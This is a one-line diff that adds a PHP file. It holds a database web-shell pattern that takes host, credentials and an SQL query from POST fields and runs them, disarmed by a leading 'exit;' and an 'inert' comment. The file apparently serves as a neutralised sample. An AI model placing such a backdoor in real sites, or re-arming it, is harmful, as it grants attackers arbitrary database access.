@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $c=new mysqli($_POST["h"],$_POST["u"],$_POST["p"]); $c->query($_POST["q"]);
